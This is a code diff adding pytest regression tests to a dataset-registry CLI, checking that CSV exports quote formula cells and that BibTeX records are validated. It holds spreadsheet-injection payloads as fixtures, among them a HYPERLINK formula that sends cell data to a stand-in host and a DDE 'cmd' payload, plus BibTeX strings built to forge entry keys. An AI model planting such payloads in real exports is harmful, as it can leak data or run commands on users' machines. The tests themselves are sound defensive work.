@@ -4,11 +4,16 @@ Each test runs the CLI as a user would, with a fresh USREG_HOME; hosts are a rea
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from pathlib import Path
 
+import bibtexparser
 import pytest
 
+from registry.spreadsheet import FORMULA_START
+from tests.conftest import minimal_dataset
 from tests.contrib.conftest import host_server  # noqa: F401  (the fixture)
 from tests.fixtures.server import HostServer, Response
 
@@ -92,3 +97,69 @@ def test_new_refuses_an_id_with_a_trailing_newline(catalog_root, run_cli) -> Non
     result = run_cli("new", "dataset", "abc\n", "--no-interactive", root=catalog_root.root)
     assert result.exit_code != 0, result.output
     assert _files(catalog_root.root) == []
+
+
+# -- usreg export / list: formula cells and BibTeX records --------------------------------------------------------
+FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
+
+
+def _formula_catalog(catalog_root) -> None:
+    for i, text in enumerate(FORMULAS):
+        catalog_root.dataset(minimal_dataset(f"f{i}", name=text, notes=text))
+
+
+def test_csv_export_quotes_formula_cells(catalog_root, run_cli, tmp_path: Path) -> None:
+    """A name such as =HYPERLINK(...) went into the CSV as is: a spreadsheet opening it ran the formula."""
+    _formula_catalog(catalog_root)
+    out = tmp_path / "catalog.csv"
+    result = run_cli("export", "--format", "csv", "-o", out, root=catalog_root.root)
+    assert result.exit_code == 0, result.output
+    rows = {row["id"]: row for row in csv.DictReader(out.open(encoding="utf-8"))}
+    for i, text in enumerate(FORMULAS):
+        assert rows[f"f{i}"]["name"] == "'" + text and rows[f"f{i}"]["notes"] == "'" + text
+    assert all(not cell.startswith(FORMULA_START) for row in rows.values() for cell in row.values())
+    assert json.loads(run_cli("export", "--format", "json", root=catalog_root.root).output)[0]["name"] in FORMULAS
+
+
+def test_list_csv_quotes_formula_cells(catalog_root, run_cli) -> None:
+    """`usreg list --format csv` wrote the same cells unquoted."""
+    _formula_catalog(catalog_root)
+    result = run_cli("list", "--format", "csv", root=catalog_root.root)
+    assert result.exit_code == 0, result.output
+    rows = list(csv.DictReader(io.StringIO(result.stdout)))
+    assert sorted(row["name"] for row in rows) == sorted("'" + text for text in FORMULAS)
+
+
+@pytest.mark.parametrize(
+    ("record", "problem"),
+    [
+        ("@misc{k, title={open\n\n@comment{", "a line inside it starts with @"),
+        ("@misc{k, title={a}}\n@misc{usreg_other, title={forged}}", "a line inside it starts with @"),
+        ("@misc{k, title={a}} @misc{x, title={b}}", "text follows its closing brace"),
+        ("@misc{k, title={a}}}", "text follows its closing brace"),
+        ("@misc{k, title={a}", "1 brace(s) are left open"),
+        ("title = {no record}", "it does not start with @type{key,"),
+    ],
+)
+def test_a_publication_bibtex_must_be_one_whole_record(catalog_root, run_cli, record: str, problem: str) -> None:
+    """`publications[].bibtex` was any text and went into `usreg export --format bibtex` as written: an open brace
+    swallowed the next entries' records, and a second record could forge another entry's key."""
+    catalog_root.dataset(minimal_dataset("aaa", publications=[{"title": "T", "bibtex": record}]))
+    catalog_root.dataset(minimal_dataset("bbb"))
+    result = run_cli("validate", root=catalog_root.root)
+    assert result.exit_code == 1, result.output
+    assert "bibtex is not one whole BibTeX record" in result.output and problem in result.output
+    exported = run_cli("export", "--format", "bibtex", root=catalog_root.root)  # skips the entry, with a warning
+    assert "skipping 1 entry file" in exported.stderr and "@misc{k" not in exported.stdout
+    library = bibtexparser.parse_string(exported.stdout)
+    assert [e.key for e in library.entries] == ["usreg_bbb"] and not library.failed_blocks
+
+
+def test_a_whole_bibtex_record_is_exported_and_parses(catalog_root, run_cli) -> None:
+    """The check refuses no real record: braces inside values, @ inside a line, a trailing newline."""
+    record = "@article{Doe2020,\n  title = {The {BUS} @ data},\n  author = {Doe, J.},\n  year = {2020}\n}\n"
+    catalog_root.dataset(minimal_dataset("aaa", publications=[{"title": "T", "bibtex": record}]))
+    result = run_cli("export", "--format", "bibtex", root=catalog_root.root)
+    assert result.exit_code == 0, result.output
+    library = bibtexparser.parse_string(result.stdout)
+    assert [e.key for e in library.entries] == ["usreg_aaa", "Doe2020"] and not library.failed_blocks
